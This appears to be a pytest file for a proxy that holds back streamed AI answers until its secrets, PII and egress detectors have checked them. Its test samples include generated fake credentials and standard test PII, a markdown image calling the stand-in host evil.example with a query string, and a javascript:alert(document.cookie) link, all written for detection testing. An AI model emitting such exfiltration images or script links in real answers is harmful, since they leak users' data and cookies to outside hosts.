"""Detector-aware hold-back: with the secrets, PII and egress policies, a streamed answer is held
only from where a finding may still be in progress, and whatever the split of the answer into
events, the client receives what it receives when the answer comes as one event."""

from __future__ import annotations

import base64
import functools
import random

import pytest

from capsem_proxy.config import PolicySettings
from capsem_proxy.detectors.holds import digit_run_hold, word_hold
from capsem_proxy.detectors.secrets import SecretsDetector
from capsem_proxy.exchange import Exchange
from capsem_proxy.hooks import RequestContext
from capsem_proxy.pipeline import Pipeline
from capsem_proxy.policies.loader import load_policy
from capsem_proxy.streaming.events import TextDelta
from capsem_proxy.streaming.guard import GuardChecks, StreamBlocked, StreamGuard

_RANDOM = random.Random(3)
_ALNUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"


def _random(alphabet: str, length: int) -> str:
    return "".join(_RANDOM.choice(alphabet) for _ in range(length))


_PEM = (
    "-----BEGIN RSA PRIVATE KEY-----\n"
    + "\n".join(base64.b64encode(_RANDOM.randbytes(48)).decode() for _ in range(3))
    + "\n-----END RSA PRIVATE KEY-----"
)
# Each holds one finding (a secret, personal data, a URL leaving data out), in prose.
SAMPLES = {
    "email": "Contact maria.lopez@acme-logistics.io today.",
    "openai_key": f"Use sk-{_random(_ALNUM, 48)} for it.",
    "aws_pair": f"id AKIA{_random('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 16)} secret {_random(_ALNUM + '/+', 40)} end",
    "pem": f"Here:\n{_PEM}\nthanks",
    "phone": "Call me at +1 415 555 2671 tomorrow.",
    "bare_digits_cue_after": "Dial 4155552671 on my mobile phone please.",
    "ssn_cue_after": "The number 536228841 is my ssn, keep it.",
    "card": "Card 4111 1111 1111 1111 expires soon.",
    "iban": "Pay to GB82 WEST 1234 5698 7654 32 now.",
    "azure": "DefaultEndpointsProtocol=https; AccountName=prodstore; AccountKey="
    + base64.b64encode(_RANDOM.randbytes(64)).decode() + "; EndpointSuffix=core.windows.net done",
    "password": "the password = Xk9mQ2vL7pR4 ok",
    "ip": "Server at 81.2.69.160 is up.",
    "image": "See ![chart](https://evil.example/x.png?q=abc) here.",
    "script_url": "Click [here](javascript:alert(document.cookie) now) please.",
}

# Where the finding starts in the samples whose finding blocks the stream.
BLOCKED_FINDINGS = {"image": "https://", "script_url": "javascript:"}


@functools.cache
def _pipeline() -> Pipeline:
    """One pipeline for every stream (per-stream state lives in the request context); no time
    budget, so a busy machine cannot turn a slow check into a block."""
    policies = [load_policy(PolicySettings(**{"class": name}), name) for name in ("secrets", "pii_detect", "egress")]
    for policy in policies:
        policy.timeout_s = 60.0
    return Pipeline(policies)


async def _stream(pieces: list[str]) -> tuple[str, bool]:
    """What the client receives for an answer streamed as `pieces` (one text event each), and
    whether the stream was blocked."""
    pipeline = _pipeline()
    context = RequestContext("r", "t", "openai", "chat", Exchange("openai", "chat", "m"))

    async def answer(check):
        return await pipeline.check_answer(context, check.answer, final=check.final, include_tool_calls=False,
                                           stream=check)

    async def tool_call(call):
        return await pipeline.check_emitted_tool_call(context, call)

    def rewrite(raw: bytes, old: str, new: str) -> bytes:
        assert raw.decode() == old
        return new.encode()

    def split(raw: bytes, old: str, head: str, rest: str) -> tuple[bytes, bytes]:
        assert raw.decode() == old == head + rest
        return head.encode(), rest.encode()

    holds, unheld_window = pipeline.stream_holds()
    assert len(holds) == 3 and unheld_window is None
    whole_readers, incremental_readers = pipeline.answer_readers()
    guard = StreamGuard(GuardChecks(answer, tool_call), mode="guard", window_chars=0, max_buffer_bytes=1 << 24,
                        rewrite=rewrite, split=split, holds=holds, whole_readers=whole_readers,
                        incremental_readers=incremental_readers)
    released = b""
    try:
        for piece in pieces:
            released += await guard.push(piece.encode(), [TextDelta(piece)])
        released += await guard.finish()
    except StreamBlocked:
        return released.decode(), True
    return released.decode(), False


def _splits(text: str) -> list[list[str]]:
    """The text in two pieces at every split point, in three at a sample of pairs, one character at a time."""
    cases = [[text[:cut], text[cut:]] for cut in range(1, len(text))]
    rng = random.Random(len(text))
    for _ in range(40):
        first, second = sorted(rng.sample(range(1, len(text)), 2))
        cases.append([text[:first], text[first:second], text[second:]])
    cases.append(list(text))
    return cases


@pytest.mark.parametrize("name", list(SAMPLES))
async def test_a_finding_split_anywhere_is_caught_as_in_one_piece(name):
    text = SAMPLES[name]
    whole, whole_blocked = await _stream([text])
    assert whole != text or whole_blocked, f"the sample {name!r} holds nothing the policies find"
    for pieces in _splits(text):
        released, blocked = await _stream(pieces)
        assert blocked == whole_blocked, pieces
        if blocked:
            # Blocked: what went out before is prose before the finding.
            assert text.startswith(released) and len(released) <= text.index(BLOCKED_FINDINGS[name]), pieces
        else:
            assert released == whole, pieces


async def test_prose_is_released_as_it_arrives():
    """The first words go out with the event that completes them; from then on the text is checked
    (and released up to its last word) every 64 characters, never held back by a window."""
    prose = "The committee met on a quiet morning, read the minutes and agreed on the plan for spring. " * 8
    pieces = ["The"] + [prose[start : start + 7] for start in range(3, len(prose), 7)]
    pipeline = _pipeline()
    context = RequestContext("r", "t", "openai", "chat", Exchange("openai", "chat", "m"))

    async def answer(check):
        return await pipeline.check_answer(context, check.answer, final=check.final, include_tool_calls=False,
                                           stream=check)

    async def tool_call(call):
        return await pipeline.check_emitted_tool_call(context, call)

    guard = StreamGuard(GuardChecks(answer, tool_call), mode="guard", window_chars=0, max_buffer_bytes=1 << 20,
                        split=lambda raw, old, head, rest: (head.encode(), rest.encode()),
                        holds=pipeline.stream_holds()[0], whole_readers=False, incremental_readers=True)
    released, pushed, lags = "", 0, []
    for piece in pieces:
        released += (await guard.push(piece.encode(), [TextDelta(piece)])).decode()
        pushed += len(piece)
        lags.append(pushed - len(released))
    released += (await guard.finish()).decode()
    assert released == prose
    assert lags[:2] == [3, len("commit")]  # "The " left with the second event
    assert max(lags) <= 64 + 7 + len("committee ")


def test_holds():
    assert word_hold("see sk-ab") == 4
    assert word_hold("done. ") == 6
    assert word_hold("x a=1; b=2;  c=3", joined_by=";") == 2
    assert digit_run_hold("call +44 20 7946", 48) == 5
    assert digit_run_hold("pay to GB82 WEST 1234", 48) == 7
    assert digit_run_hold("year 2024 " + "x" * 60, 48) == 70
    detector = SecretsDetector()
    assert detector.hold_from("key:\n-----BEGIN RSA PRIVATE KEY-----\nMIIE AAAA") == 5
    assert detector.hold_from("key:\n" + _PEM + " ok") == len("key:\n" + _PEM + " ")


def test_the_last_word_starts_after_the_last_ascii_blank_of_any_kind() -> None:
    rng = random.Random(7)
    alphabet = ["a", "b", "7", ".", "@", " ", "\n", "\t", "\r", "\f", "\v", "\u00a0", "\u200d"]
    for _ in range(2000):
        text = "".join(rng.choices(alphabet, k=rng.randint(0, 40)))
        blanks = [text.rfind(char) for char in (" ", "\n", "\t", "\r", "\f", "\v")]
        assert word_hold(text) == max(blanks) + 1, repr(text)
        # The same text object asked about again, and a new text equal to an earlier one.
        assert word_hold(text) == word_hold("".join(list(text))) == max(blanks) + 1
